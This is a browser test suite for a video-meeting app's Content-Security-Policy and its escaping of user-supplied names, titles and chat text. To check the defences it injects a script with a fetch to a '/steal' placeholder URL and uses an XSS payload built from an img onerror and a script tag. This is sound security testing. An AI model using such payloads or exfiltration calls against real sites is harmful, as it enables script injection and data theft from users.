import type { Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { createMeeting } from '../src/testing/meetings.ts';
import { siteForTests } from '../src/testing/site.ts';

const site = siteForTests({ regions: ['eu-central-1'] });

/** A page that notes what its Content-Security-Policy refuses. */
async function watchedPage(): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const context = await site.browser.newContext({ viewport: { width: 1280, height: 800 } });
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.addInitScript(`
    window.refusedByPolicy = [];
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      window.refusedByPolicy.push([violatedDirective, blockedURI, sample].join(' '));
    });
  `);
  return { page, violations: () => page.evaluate('window.refusedByPolicy') };
}

/** A library in the API reference tries whether it may compile schemas, and goes on without. */
const asksForEval = 'script-src eval ';

/** The main pages but that of a meeting, and what stands on each once it is all there. Some ask for something each second: no network comes to rest. */
const mainPages = (meetingId: string) => [
  { path: '/', shows: 'svg[aria-label*=Frankfurt]' },
  { path: '/mesh', shows: '[data-testid=mesh-edge]' },
  { path: '/operators', shows: '[data-testid=operators-edge]' },
  { path: '/calendar', shows: '[data-testid=account-email]' },
  { path: '/account', shows: '[data-testid=account-email]' },
  { path: `/m/${meetingId}/recordings`, shows: '[data-testid=recordings]' },
  { path: '/docs', shows: 'role=heading[name=/Canopy/]' },
];

test('no main page of the app, nor the API reference, breaks its Content-Security-Policy', async () => {
  const meetingId = await createMeeting(site.url);
  const { page, violations } = await watchedPage();
  for (const { path, shows } of mainPages(meetingId)) {
    await page.goto(`${site.url}${path}`);
    await page.locator(shows).first().waitFor({ state: 'attached' });
    expect(
      (await violations()).filter((one) => one !== asksForEval),
      path,
    ).toEqual([]);
  }
  await page.goto(`${site.url}/m/${meetingId}`);
  await page.getByTestId('join-name').fill('Ada');
  await page.getByTestId('join-button').click();
  await page.locator('[data-testid=tile][data-kind=self] video').waitFor();
  expect(await violations(), 'the meeting').toEqual([]);
});

test('nor does a dialog on an iPhone, where the page behind it is held still by a style', async () => {
  const { page, violations } = await watchedPage();
  await page.addInitScript(`
    Object.defineProperty(NavigatorUAData.prototype, 'platform', { get: () => 'iPhone' });
  `);
  await page.goto(`${site.url}/m/${await createMeeting(site.url)}`);
  await page.getByTestId('join-name').fill('Ada');
  await page.getByTestId('join-button').click();
  await page.getByTestId('open-settings').click();
  await page.getByRole('dialog').waitFor();
  await expect.poll(() => page.evaluate(`getComputedStyle(document.body).overscrollBehaviorY`)).toBe('contain');
  expect(await violations()).toEqual([]);
});

test('a script that got into a page does not run, and nothing is sent elsewhere', async () => {
  const { page, violations } = await watchedPage();
  await page.goto(site.url);
  await page.evaluate(`
    const script = document.createElement('script');
    script.textContent = 'window.ranAnyway = true';
    document.body.append(script);
    fetch('https://example.org/steal').catch(() => {});
  `);
  await expect.poll(async () => (await violations()).map((one) => one.split(' ')[0])).toHaveLength(2);
  const refused = new Set((await violations()).map((one) => one.split(' ')[0]));
  expect(refused).toEqual(new Set(['connect-src', 'script-src-elem']));
  expect(await page.evaluate('window.ranAnyway')).toBeUndefined();
});

/** Would set `ran`, in two ways that the policy would note. A name may be that long. */
const markup = `"'><img src=x onerror=ran=1><script>ran=1</script>`;

/** Fails if the page took any of it for more than text. */
async function expectText({ page, violations }: Awaited<ReturnType<typeof watchedPage>>, where: string): Promise<void> {
  expect(await violations(), where).toEqual([]);
  expect(await page.evaluate('window.ran'), where).toBeUndefined();
  expect(await page.locator('img[src=x], script:not([src])').count(), where).toBe(0);
}

test('markup in names and titles is text wherever it is shown, and never runs', async () => {
  const meetingId = await createMeeting(site.url, { title: markup, settings: { lobby: 'guests' } });
  const [host, guest] = [await watchedPage(), await watchedPage()];
  const enter = async ({ page }: typeof host, role: string, name: string) => {
    await page.goto(`${site.url}/m/${meetingId}?role=${role}`);
    await page.getByText(markup).first().waitFor();
    await page.getByTestId('join-name').fill(name);
    await page.getByTestId('toggle-camera').click();
    await page.getByTestId('join-button').click();
  };
  await enter(host, 'host', 'Ada');
  await host.page.getByTestId('participant-count').waitFor();
  await enter(guest, 'panelist', markup);
  await guest.page.getByTestId('waiting').getByText(markup).waitFor();
  await expectText(guest, 'the door');

  await host.page.getByTestId('show-lobby').click();
  await host.page.getByTestId('lobby-list').getByText(markup).waitFor();
  await expectText(host, 'the lobby');
  await host.page.getByTestId('admit').click();
  await guest.page.getByTestId('participant-count').waitFor();
  await guest.page.getByTestId('toggle-hand').click();
  await host.page.getByText(`${markup} raised a hand`).waitFor({ state: 'attached' });
  await host.page.getByTestId('hands').getByText(markup).waitFor();
  await host.page.getByTestId('tile').getByText(markup).first().waitFor();
  await expectText(host, 'the tiles and the people');
  await guest.page.getByTestId('toggle-chat').click();
  await guest.page.getByTestId('chat-text').fill(markup);
  await guest.page.getByTestId('chat-text').press('Enter');
  await host.page.getByTestId('toggle-chat').click();
  const message = host.page.getByTestId('message');
  await expect.poll(() => message.locator('bdi').textContent()).toBe(markup);
  await expect.poll(() => message.locator('p').first().textContent()).toBe(markup);
  for (const each of [host, guest]) await expectText(each, 'the chat');

  const elsewhere = await watchedPage();
  const { page } = elsewhere;
  await page.goto(`${site.url}/operators`);
  await page.getByTestId('operators-person').getByText(markup).waitFor();
  await page.getByTestId('operators-meeting').getByText(markup).waitFor({ state: 'attached' });
  await expectText(elsewhere, 'the operators’ page');
  await page.goto(`${site.url}/m/${meetingId}/recordings`);
  await page.getByRole('heading', { name: markup }).waitFor();
  await expect.poll(() => page.title()).toContain(markup);
  await expectText(elsewhere, 'the recordings');
});

test('nor does it run in the calendar, the name of who planned it, or their personal room', async () => {
  const planner = await watchedPage();
  const { page } = planner;
  await page.goto(site.url);
  const account = { email: 'eve@example.org', password: 'a long enough password', name: markup };
  // In the month after this one wherever the browser is, whatever time it is.
  const now = new Date();
  const start = `${new Date(Date.UTC(now.getFullYear(), now.getMonth() + 1, 15)).toISOString().slice(0, 10)}T12:00`;
  const handle = await page.evaluate(
    async ([person, plan]) => {
      const ask = async (path: string, body: object) => {
        const headers = { 'content-type': 'application/json' };
        const response = await fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
        return await response.json();
      };
      const made = await ask('/v1/account', person);
      await ask('/v1/schedules', plan);
      return String(made.handle);
    },
    [account, { title: markup, timeZone: 'UTC', start }] as const,
  );
  await page.goto(`${site.url}/calendar`);
  await page.getByTestId('next-month').click();
  await page.getByTestId('entry').getByText(markup).waitFor();
  await page.getByTestId('entry-links').click();
  await page.getByRole('dialog').waitFor();
  await expectText(planner, 'the calendar');
  const guest = await watchedPage();
  await guest.page.goto(`${site.url}/r/${handle}`);
  await guest.page.getByText(`${markup} is not here yet`).waitFor();
  await expectText(guest, 'the personal room');
});
